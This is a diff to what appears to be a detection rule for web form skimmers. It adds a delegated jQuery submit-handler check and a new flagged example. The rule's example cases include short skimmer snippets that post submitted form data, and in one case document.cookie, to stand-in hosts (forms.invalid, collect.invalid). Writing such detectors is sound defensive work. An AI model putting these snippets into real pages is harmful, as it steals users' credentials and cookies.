@@ -59,13 +59,17 @@ export default defineRule({
       cookies: 8.5,
       lurks: 13.5,
       plunders: 13.5,
-      listens: 11,
+      listens: 13.5,
       fields: 4,
       page: 2,
     },
   },
   examples: {
     flags: [
+      {
+        title: 'a plugin copies each form that is sent to a place of its own',
+        code: `(function ($) {\n  var send = $.ajax;\n  $(document).on('submit', 'form', function () { send({ type: 'POST', url: 'https://forms.invalid/a', data: $(this).serialize() }); });\n})(jQuery);`,
+      },
       {
         title: 'form fields and cookies are posted elsewhere',
         code: `document.forms[0].addEventListener('submit', () => {\n  let all = '';\n  for (const field of document.forms[0].elements) all += field.value;\n  fetch('https://collect.invalid', { method: 'POST', body: btoa(all + document.cookie) });\n});`,
@@ -263,9 +267,18 @@ function gathersForms({ named, nodes, namesOf, textsOf }: FileContext): boolean 
   const anyForm = named(/^(?:document|window)\.addEventListener$/).some(({ args }) =>
     args[0] ? textsOf(args[0]).some(text => /^(?:submit|input|change)$/.test(text)) : false,
   );
+  // `$(document).on('submit', 'form', …)`
+  const delegated = nodes('CallExpression').some(({ callee, arguments: [event, selector] }) => {
+    const method =
+      callee.type === 'MemberExpression' && callee.property.type === 'Identifier' ? callee.property.name : '';
+    return /^(?:on|delegate)$/.test(method) && [event, selector].some(isAnyForm);
+  });
   // `for (const form of document.forms)`, `[...document.forms].forEach(…)`
   const eachForm = [...nodes('ForOfStatement'), ...nodes('SpreadElement'), ...nodes('ForInStatement')].some(node =>
     namesOf(('right' in node ? node.right : node.argument) as AnyNode, 200).includes('ElementList'),
   );
-  return anyField || anyForm || eachForm;
+  return anyField || anyForm || delegated || eachForm;
 }
+
+const isAnyForm = (arg: AnyNode | undefined): boolean =>
+  arg?.type === 'Literal' && typeof arg.value === 'string' && /^(?:form|:?input)$/i.test(arg.value);
